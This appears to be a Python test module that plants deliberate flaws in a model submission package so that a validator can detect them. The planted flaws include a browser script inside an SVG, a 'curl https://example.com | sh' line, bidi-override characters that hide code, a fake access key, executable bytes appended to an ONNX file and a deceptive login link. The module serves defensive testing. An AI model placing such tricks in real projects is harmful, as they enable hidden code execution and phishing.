"""Broken where nobody looks at once: hidden in a model, behind a link, in the order of letters, under a name that means something."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import onnx
from case import broken, first_cell, replace


def _wrote(name: str, text: str) -> Callable[[Path], None]:
    def breaks(folder: Path) -> None:
        file = folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")

    return breaks


for name, what, check, file, text in (
    ("picture-with-script", "a picture that is a program for the browser", "artifacts.markup", "figure.svg",
     '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("page-with-script", "a web page that loads a program", "artifacts.markup", "demo.html",
     '<html><body><script src="https://example.com/x.js"></script></body></html>'),
    ("script-that-starts-itself", "a script that Python runs though nobody imports it", "artifacts.sources", "sitecustomize.py",
     'print("hello")\n'),
    ("script-named-as-module", "a script that takes the place of a module of Python", "artifacts.sources", "json.py",
     "VALUE = 1\n"),
    ("hidden-workflow", "settings of a forge", "files.names", ".github/workflows/x.yml", "on: push\njobs: {}\n"),
    ("name-of-a-device", "a file that cannot lie on Windows", "files.names", "aux.txt", "x\n"),
    ("shell-script", "a script for the shell", "files.programs", "run.sh", "curl https://example.com | sh\n"),
    ("script-of-other-language", "a script for the browser's language", "files.programs", "tools/view.js", "alert(1)\n"),
):  # fmt: skip
    broken(name, what, check, near=True)(_wrote(file, text))


@broken("letters-turned-round", "a comment whose letters hide what the code does", "files.text", near=True)
def _(folder: Path) -> None:
    replace(folder / "preprocess.py", "def preprocess", "# \u202e the end \u2066\ndef preprocess")


@broken("letters-turned-round-in-notebook", "the same in a cell of a notebook", "files.text", near=True)
def _(folder: Path) -> None:
    first_cell(folder / "inference.ipynb", "# \u202e the end \u2066\nprint(1)")


@broken("secret-in-model", "a key in what describes the model", "files.secrets", near=True)
def _(folder: Path) -> None:
    model = onnx.load(folder / "model.onnx")
    entry = model.metadata_props.add()
    entry.key, entry.value = "uploaded", "with AKIA" + "QYLPMN5HFIQR7XYA"
    (folder / "model.onnx").write_bytes(model.SerializeToString())


@broken("bytes-behind-model", "bytes in a field that ONNX does not have", "compliance.model", near=True)
def _(folder: Path) -> None:
    data = b"\x7fELF" + bytes(1000)
    field = b"\xfa\x3f" + bytes([len(data) & 127 | 128, len(data) >> 7]) + data
    with (folder / "model.onnx").open("ab") as file:
        file.write(field)


@broken("notebook-of-other-language", "a notebook that says it is written in bash", "artifacts.sources", near=True)
def _(folder: Path) -> None:
    file = folder / "inference.ipynb"
    content = json.loads(file.read_text(encoding="utf-8"))
    content["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    file.write_text(json.dumps(content), encoding="utf-8")


@broken(
    "link-that-lies", "a link that shows one host and leads to another", "artifacts.markup", near=True, also=("artifacts.readme",)
)  # fmt: skip
def _(folder: Path) -> None:
    with (folder / "README.md").open("a", encoding="utf-8") as file:
        file.write("\n[https://github.com/onnx](https://example.com/login)\n")


for name, what, stated in (
    ("reference-to-nothing", "a reference that is n/a", "E. Alpaydin, C. Kaynak: Optical Recognition of Handwritten Digits, 1998"),
    ("data-of-unknown-license", "data whose licence is unknown", "CC-BY-4.0"),
):  # fmt: skip

    def _nothing(folder: Path, stated: str = stated) -> None:
        for file in ("metadata.toml", "README.md"):
            replace(folder / file, stated, "n/a" if " " in stated else "unknown")

    also = ("artifacts.license",) if stated == "CC-BY-4.0" else ()
    broken(name, what, "artifacts.template", near=True, also=also)(_nothing)
